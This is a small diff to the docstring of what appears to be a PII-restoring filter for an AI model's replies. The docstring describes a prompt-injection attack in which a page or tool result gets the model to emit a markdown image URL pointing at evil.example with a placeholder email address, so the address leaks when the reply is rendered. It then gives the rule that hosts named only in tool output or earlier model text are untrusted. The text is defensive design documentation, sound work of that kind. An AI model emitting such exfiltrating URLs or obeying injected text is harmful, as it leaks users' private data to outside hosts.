@@ -1,7 +1,7 @@
 """Which host a piece of reply text is on its way to.
 
 A page or a tool's result can ask the model for `![](https://evil.example/?q=<EMAIL_ADDRESS_1>)`; restored, the address
-leaves as soon as the reply is rendered (reference/pii.md 8). So a value is restored inside a URL only if
+leaves as soon as the reply is rendered. So a value is restored inside a URL only if
 
 - a trusted part of the request names the URL's host (what tools returned and what the model said earlier are not
   trusted: that is where the injected text comes from), or
